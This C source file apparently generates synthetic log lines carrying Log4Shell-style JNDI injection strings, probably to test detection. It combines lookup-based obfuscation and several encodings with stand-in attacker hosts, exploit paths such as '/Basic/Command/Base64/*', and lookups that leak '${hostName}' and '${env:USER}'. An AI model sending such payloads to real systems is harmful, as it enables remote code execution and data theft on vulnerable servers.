/* Attack expressions of the log generator: obfuscation by lookups, then encoding of the result. */
#include "loggen.h"

#include <string.h>

static void obfuscate_char(struct line *l, struct gen *g, char c, enum obfuscation how)
{
    static const char *const words[] = {"TZ_NAME", "BARFOO", "NaN", "QW_ERT", "APP_REGION_X", "LANGUAGE_Q"};
    if (how == OBF_MIXED) how = (enum obfuscation)(OBF_LOWER + gen_below(g, 3));
    switch (how) {
    case OBF_LOWER: line_printf(l, "${lower:%c}", c); break;
    case OBF_DEFAULT: line_printf(l, "${%s:-%c}", gen_chance(g, 0.5) ? ":" : "::", c); break;
    case OBF_ENV: line_printf(l, "${env:%s:-%c}", words[gen_below(g, 6)], c); break;
    case OBF_NESTED: line_printf(l, "${lower:${::-%c}}", c); break;
    default: line_byte(l, c); break;
    }
}

static void obfuscate(struct line *l, struct gen *g, const char *word, enum obfuscation how)
{
    for (; *word; word++) {
        bool leave = how == OBF_PLAIN || ((how == OBF_MIXED || how == OBF_ENV) && gen_chance(g, 0.3));
        if (leave) line_byte(l, *word);
        else obfuscate_char(l, g, *word, how);
    }
}

/* Percent leaves letters and digits, as scanners do; the others write every special byte of an expression. */
static void encode(struct line *out, const struct line *in, enum encoding how)
{
    for (size_t i = 0; i < in->n; i++) {
        unsigned char c = (unsigned char)in->p[i];
        bool special = c == '$' || c == '{' || c == '}' || c == ':' || c == '/' || c == '\'' || c == ' ';
        if (!special) line_byte(out, (char)c);
        else switch (how) {
            case ENC_PERCENT: line_printf(out, "%%%02X", c); break;
            case ENC_PERCENT_TWICE: line_printf(out, "%%25%02x", c); break;
            case ENC_BACKSLASH_X: line_printf(out, "\\x%02X", c); break;
            case ENC_BACKSLASH_U: line_printf(out, "\\u%04x", c); break;
            case ENC_HTML: line_printf(out, "&#%u;", c); break;
            default: line_byte(out, (char)c); break;
            }
    }
}

static void put_pattern(struct line *l, struct gen *g, const char *pattern, unsigned digits)
{
    for (; *pattern; pattern++) {
        if (*pattern == '*') line_hex(l, g, digits);
        else line_byte(l, *pattern);
    }
}

void attack_put(struct line *out, struct gen *g, const struct campaign *c)
{
    static struct line expression;
    expression.n = 0;
    if (c->literal) {
        put_pattern(&expression, g, c->literal, 8);
        encode(out, &expression, c->encoding);
        return;
    }
    line_text(&expression, "${");
    obfuscate(&expression, g, "jndi", c->obfuscation);
    line_byte(&expression, ':');
    obfuscate(&expression, g, c->scheme, c->obfuscation == OBF_ENV ? OBF_PLAIN : c->obfuscation);
    line_text(&expression, "://");
    put_pattern(&expression, g, c->host, 12);
    put_pattern(&expression, g, c->path, 16);
    line_byte(&expression, '}');
    encode(out, &expression, c->encoding);
}

void attack_random(struct line *out, struct gen *g)
{
    static const char *const schemes[] = {"ldap", "ldap", "ldap", "ldaps", "rmi", "dns"};
    static const char *const hosts[] = {"198.51.100.23:1389", "203.0.113.66:1389", "*.drip.example", "*.hook.example:1389",
                                        "*.${hostName}.leak.example", "[2001:db8::66]:1389", "cb.pawn.example:3890"};
    static const char *const paths[] = {"/a", "/Exploit", "/Basic/Command/Base64/*", "/*", "/o=reference", "/${env:USER}"};
    struct campaign c = {0};
    /* One draw per statement: the order of evaluation within one is the compiler's choice. */
    c.scheme = schemes[gen_below(g, 6)];
    c.host = hosts[gen_below(g, 7)];
    c.path = paths[gen_below(g, 6)];
    c.obfuscation = (enum obfuscation)gen_below(g, OBF_COUNT);
    c.encoding = gen_chance(g, 0.5) ? ENC_NONE : (enum encoding)gen_below(g, ENC_COUNT);
    attack_put(out, g, &c);
}
